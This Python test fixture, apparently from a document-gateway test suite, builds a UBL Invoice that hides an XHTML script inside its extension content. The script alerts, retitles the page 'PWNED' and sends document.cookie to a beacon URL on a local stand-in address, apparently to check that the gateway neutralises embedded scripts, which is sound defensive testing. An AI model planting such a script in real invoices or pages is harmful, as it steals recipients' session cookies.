"""A partner's Invoice that carries XHTML script in ``ext:ExtensionContent`` (the schema allows any content)."""

from __future__ import annotations

from gwtest import INVOICE, with_id

EXT = "urn:oasis:names:specification:ubl:schema:xsd:CommonExtensionComponents-2"
BEACON = "http://127.0.0.1:9/planted-beacon"


def planted_invoice(doc_id: str) -> bytes:
    """The sample Invoice with a script that alerts, retitles the page and calls a beacon when it runs."""
    script = (f'<ext:UBLExtensions xmlns:ext="{EXT}"><ext:UBLExtension><ext:ExtensionContent>'
              '<h:div xmlns:h="http://www.w3.org/1999/xhtml"><h:script>'
              f"document.title='PWNED';fetch('{BEACON}?'+document.cookie);"
              f"new Image().src='{BEACON}';alert('planted');"
              "</h:script></h:div></ext:ExtensionContent></ext:UBLExtension></ext:UBLExtensions>")
    doc = with_id(INVOICE, doc_id)
    marker = b"<cbc:UBLVersionID>"
    return doc.replace(marker, script.encode() + marker, 1)
